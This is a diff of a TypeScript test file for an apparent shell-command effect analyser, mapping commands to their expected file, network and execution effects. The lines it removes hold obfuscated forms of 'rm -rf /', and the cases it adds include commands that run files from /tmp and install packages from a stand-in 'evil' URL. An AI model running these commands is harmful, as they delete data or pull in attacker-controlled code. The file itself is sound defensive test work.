@@ -1,5 +1,9 @@
 import { expect, test } from 'bun:test';
-import { describe, withFiles } from '../testing/describe-reading.ts';
+import { readConcurrently, readCrossEnv } from '../node/read-wrapped.ts';
+import { readGoals } from './read-goals.ts';
+import { readJava } from './read-java.ts';
+import { readMake } from './read-make.ts';
+import { describe, withFiles, rowOf } from '../testing/describe-reading.ts';
 
 const CONTEXT = withFiles({
   '/p/Makefile':
@@ -7,11 +11,6 @@ const CONTEXT = withFiles({
 });
 
 const CASES: readonly (readonly [command: string, reading: string])[] = [
-  ['---', 'unknown'],
-  ['FOO=1 rm -rf /', 'unknown'],
-  ["$'\\x72\\x6d' -rf /", 'unknown'],
-  ["a=rm; b='-rf /'; $a $b", 'unknown'],
-  ['{rm,-rf,/}', 'unknown'],
   [
     'make',
     'write workspace:/p, script(git describe), script((cc -c x.c -o x.o\n)), script((cd src && cc -o build x.c\n)\n(rm -rf dist ${UNK}\n)), script((npm test\n)), script((true\n))',
@@ -55,7 +54,7 @@ const CASES: readonly (readonly [command: string, reading: string])[] = [
   ['pytest /tmp/evil.py', 'write workspace:/p, read /tmp/evil.py, execute program:pytest'],
   [
     'pip install -r requirements.txt',
-    'read /p/requirements.txt, write workspace:/p, network get:pypi.org',
+    'read tree:/p/requirements.txt, write workspace:/p, network get:pypi.org',
   ],
   ['pip install requests==2.1', 'write workspace:/p, network get:pypi.org'],
   [
@@ -304,8 +303,28 @@ const CASES: readonly (readonly [command: string, reading: string])[] = [
   ['trivy fs .', 'read workspace:/p, read tree:/p'],
   ['semgrep --config auto .', 'read workspace:/p, read tree:/p'],
   ['trivy image x -o out.json', 'write /p/out.json, read workspace:/p, read tree:/p/x'],
+  ['make -f /tmp/evil.mk', 'read /tmp/evil.mk, write workspace:/p, execute program:make'],
+  ['make -f other.mk evil', 'read /p/other.mk, write workspace:/p, execute program:make'],
+  [
+    'pip install -r https://evil/req.txt',
+    'network get:https://evil/req.txt, write workspace:/p, network get:pypi.org',
+  ],
+  ['hatch run test', 'write workspace:/p, execute program:test, argv(test)'],
+  ['pdm run pytest', 'write workspace:/p, argv(pytest)'],
+  ['pipenv run python x.py', 'write workspace:/p, argv(python x.py)'],
+  ['composer test', 'write workspace:/p, execute program:composer'],
 ];
 
 test.each(CASES)('%s has exactly its effects', (command, reading) => {
   expect(describe(command, CONTEXT)).toBe(reading);
+});
+
+test.each([
+  ['make', readMake],
+  ['java', readJava],
+  ['mvn', readGoals],
+  ['cross-env', readCrossEnv],
+  ['concurrently', readConcurrently],
+] as const)('%s has its reader in the table', (name, reader) => {
+  expect(rowOf(name)?.read).toBe(reader);
 });
